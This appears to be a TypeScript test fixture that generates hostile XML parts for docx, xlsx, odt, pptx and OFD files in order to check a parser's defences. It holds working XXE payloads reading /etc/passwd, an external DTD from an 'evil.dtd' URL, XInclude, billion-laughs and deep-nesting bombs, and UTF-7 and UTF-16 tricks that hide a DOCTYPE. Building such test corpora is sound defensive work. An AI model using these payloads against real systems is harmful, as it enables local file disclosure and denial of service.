/** The same attacks on the main part of every format that is XML in a zip. */

import type { Random } from '../../../shared/classify/gate/random-of.ts';
import { documentXml, rawDocx } from '../../making/raw-docx.ts';
import { odfXml, rawOdf } from '../../making/raw-odf.ts';
import { ofdXml, rawOfd } from '../../making/raw-ofd.ts';
import { pptXml, rawPptx } from '../../making/raw-pptx.ts';
import { rawXlsx, sheetXml } from '../../making/raw-xlsx.ts';
import { entriesOf, flood, type HostileEntry, noiseOf } from './entry.ts';

interface XmlFormat {
  readonly ending: string;
  /** A file whose main part is this. */
  readonly file: (part: string | Uint8Array) => Uint8Array;
  /** A whole part around paragraphs or their like. */
  readonly part: (inside: string) => string;
  readonly words: string;
  readonly nest: readonly [string, string];
  /** Something small of which a page may hold many. */
  readonly small: (noise: string) => string;
}

const sheetRow = (inside: string): string =>
  `<row r="1"><c r="A1" t="inlineStr">${inside}</c></row>`;

const FORMATS: readonly XmlFormat[] = [
  {
    ending: 'docx',
    file: (part) => rawDocx({ files: { 'word/document.xml': part } }),
    part: documentXml,
    words: '<w:p><w:r><w:t>关于公开有关事项的通知</w:t></w:r></w:p>',
    nest: ['<w:sdt><w:sdtContent>', '</w:sdtContent></w:sdt>'],
    small: (noise) => `<w:p w:rsidR="${noise}"/>`,
  },
  {
    ending: 'xlsx',
    file: (part) =>
      rawXlsx({ sheets: [{ name: '表', rows: '' }], files: { 'xl/worksheets/sheet1.xml': part } }),
    part: (inside) => sheetXml({ name: '表', rows: inside }),
    words: sheetRow('<is><t>关于公开有关事项的通知</t></is>'),
    nest: ['<row><c><is><r>', '</r></is></c></row>'],
    small: (noise) => `<row spans="${noise}"/>`,
  },
  {
    ending: 'odt',
    file: (part) => rawOdf({ files: { 'content.xml': part } }),
    part: (inside) =>
      odfXml('document-content', `<office:body><office:text>${inside}</office:text></office:body>`),
    words: '<text:p>关于公开有关事项的通知</text:p>',
    nest: ['<text:section>', '</text:section>'],
    small: (noise) => `<text:p text:style-name="${noise}"/>`,
  },
  {
    ending: 'pptx',
    file: (part) => rawPptx({ slides: [''], files: { 'ppt/slides/slide1.xml': part } }),
    part: (inside) => pptXml('sld', `<p:cSld><p:spTree>${inside}</p:spTree></p:cSld>`),
    words:
      '<p:sp><p:txBody><a:p><a:r><a:t>关于公开有关事项的通知</a:t></a:r></a:p></p:txBody></p:sp>',
    nest: ['<p:grpSp>', '</p:grpSp>'],
    small: (noise) => `<p:sp n="${noise}"/>`,
  },
  {
    ending: 'ofd',
    file: (part) => rawOfd({ pages: [''], files: { 'Doc_0/Pages/Page_0/Content.xml': part } }),
    part: (inside) =>
      ofdXml('Page', `<ofd:Content><ofd:Layer ID="2">${inside}</ofd:Layer></ofd:Content>`),
    words:
      '<ofd:TextObject ID="1" Boundary="20 20 150 10" Font="1" Size="5"><ofd:TextCode X="0" Y="5" DeltaX="g 10 5">关于公开有关事项的通知</ofd:TextCode></ofd:TextObject>',
    nest: ['<ofd:PageBlock>', '</ofd:PageBlock>'],
    small: (noise) => `<ofd:PageBlock ID="${noise}"/>`,
  },
];

const ENTITY = '关于公开有关事项的通知';

const withHead = (part: string, head: string): string => part.replace(/^<\?xml[^>]*\?>/u, head);

const HEAD = '<?xml version="1.0" encoding="UTF-8"?>';

const LAUGHS = `<!DOCTYPE l [<!ENTITY a "ha">${flood(9, (at) => {
  const [name, before] = ['bcdefghij'[at], 'abcdefghi'[at]];
  return `<!ENTITY ${name} "${`&${before};`.repeat(10)}">`;
})}]>`;

const utf16 = (text: string, isBig: boolean): Uint8Array => {
  const bytes = Buffer.from(`\ufeff${text}`, 'utf16le');
  return new Uint8Array(isBig ? bytes.swap16() : bytes);
};

/** UTF-7 of everything that is not a plain letter: a checker that looks for `<!DOCTYPE` sees none. */
const utf7 = (text: string): Uint8Array =>
  Buffer.from(
    text.replace(/[^A-Za-z0-9 ="'./:?-]+/gu, (run) => {
      const big = Buffer.from(run, 'utf16le').swap16();
      return `+${big.toString('base64').replace(/=+$/u, '')}-`;
    }),
  );

const attributes = (count: number): string => flood(count, (at) => ` a${at}=""`);

const attacksOn = ({ ending, file, part, words, nest, small }: XmlFormat) => {
  const nested = (levels: number): string =>
    nest[0].repeat(levels) + words + nest[1].repeat(levels);
  const headed = (head: string, inside = words): Uint8Array =>
    file(withHead(part(inside), HEAD + head));
  const noisy = (count: number, random: Random): string =>
    flood(count, () => small(noiseOf(random)));
  return entriesOf(ending, {
    'an external entity': {
      attacks: 'reads a file of this machine (XXE)',
      make: () =>
        headed(
          '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
          words.replace(ENTITY, '&x;'),
        ),
      ends: ['FORBIDDEN_XML'],
    },
    'an external DTD': {
      attacks: 'asks a server of strangers',
      make: () => headed('<!DOCTYPE d SYSTEM "http://127.0.0.1:9/evil.dtd">'),
      ends: ['FORBIDDEN_XML'],
    },
    'a parameter entity from outside': {
      attacks: 'reads a file of this machine and tells a server',
      make: () => headed('<!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>'),
      ends: ['FORBIDDEN_XML'],
    },
    'a billion laughs': {
      attacks: 'memory: entities of entities',
      make: () => headed(LAUGHS, words.replace(ENTITY, '&j;')),
      ends: ['FORBIDDEN_XML'],
    },
    'an entity nobody defined': {
      attacks: 'the parser in an error',
      make: () => file(part(words.replace(ENTITY, '&nobody;'))),
      ends: ['DAMAGED', 'text'],
    },
    '10,000 elements deep': {
      attacks: 'the stack',
      make: () => file(part(nested(10_000))),
      ends: ['STRUCTURE_LIMIT'],
    },
    '100,000 elements deep': {
      attacks: 'the stack',
      make: () => file(part(nested(100_000))),
      ends: ['STRUCTURE_LIMIT', 'ARCHIVE_LIMIT'],
    },
    'a million elements in a small file': {
      attacks: 'time and memory per element',
      make: () => file(part(small('').repeat(1_000_000) + words)),
      ends: ['text', 'STRUCTURE_LIMIT', 'ARCHIVE_LIMIT'],
    },
    'half a million elements that do not pack': {
      attacks: 'time and memory per element, under the ratio of packing',
      make: (random) => file(part(noisy(500_000, random) + words)),
      ends: ['text', 'STRUCTURE_LIMIT'],
    },
    '100,000 attributes': {
      attacks: 'lists of attributes searched one by one',
      make: () => file(part(`<x${attributes(100_000)}/>${words}`)),
      ends: ['STRUCTURE_LIMIT'],
    },
    '200 attributes on each of 20,000 elements': {
      attacks: 'attributes under the limit of one element',
      make: () => file(part(`<x${attributes(200)}/>`.repeat(20_000) + words)),
      ends: ['text', 'ARCHIVE_LIMIT', 'STRUCTURE_LIMIT'],
    },
    'an attribute of 30 MB': {
      attacks: 'strings that grow letter by letter',
      make: (random) => file(part(`<x y="${flood(4_500_000, () => noiseOf(random))}"/>${words}`)),
      ends: ['text', 'ARCHIVE_LIMIT', 'STRUCTURE_LIMIT'],
    },
    'a name of 10 MB': {
      attacks: 'strings that grow letter by letter',
      make: (random) => {
        const name = `x${flood(1_600_000, () => noiseOf(random))}`;
        return file(part(`<${name}></${name}>${words}`));
      },
      ends: ['text', 'ARCHIVE_LIMIT', 'STRUCTURE_LIMIT'],
    },
    'a comment and an instruction of 10 MB each': {
      attacks: 'strings that grow letter by letter',
      make: (random) => {
        const noise = flood(1_600_000, () => noiseOf(random));
        return file(part(`<!--${noise}--><?x ${noise}?>${words}`));
      },
      ends: ['text', 'ARCHIVE_LIMIT'],
    },
    'a CDATA that never ends': {
      attacks: 'the parser at the end of the part',
      make: (random) => file(`${part(words)}<![CDATA[${flood(10_000, () => noiseOf(random))}`),
      ends: ['DAMAGED', 'text'],
    },
    'characters that XML forbids': {
      attacks: 'text with half characters and control characters',
      make: () => file(part(words.replace(ENTITY, '&#xD800;&#0;&#1;&#xFFFFFFFF;&#x110000;通知'))),
      ends: ['DAMAGED', 'text'],
    },
    'UTF-16 that hides a DOCTYPE': {
      attacks: 'a check that looks at bytes',
      make: () =>
        file(
          utf16(
            withHead(
              part(words),
              '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            ),
            false,
          ),
        ),
      ends: ['FORBIDDEN_XML'],
    },
    'UTF-16 the other way round': {
      attacks: 'a charset that the part declares',
      make: () =>
        file(utf16(withHead(part(words), '<?xml version="1.0" encoding="UTF-16"?>'), true)),
      ends: ['text'],
    },
    'UTF-7 that hides a DOCTYPE': {
      attacks: 'a check that looks at bytes',
      make: () =>
        file(
          utf7(
            withHead(
              part(words),
              '<?xml version="1.0" encoding="UTF-7"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
            ),
          ),
        ),
      ends: ['DAMAGED', 'NO_TEXT', 'FORBIDDEN_XML'],
    },
    'UTF-16 declared, UTF-8 written': {
      attacks: 'a charset that the part lies about',
      make: () => file(withHead(part(words), '<?xml version="1.0" encoding="UTF-16"?>')),
      ends: ['text', 'DAMAGED'],
    },
    'an XInclude of a file': {
      attacks: 'reads a file of this machine',
      make: () =>
        file(
          part(
            `<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>${words}`,
          ),
        ),
      ends: ['text'],
    },
  });
};

export const XML_PARTS: readonly HostileEntry[] = FORMATS.flatMap(attacksOn);
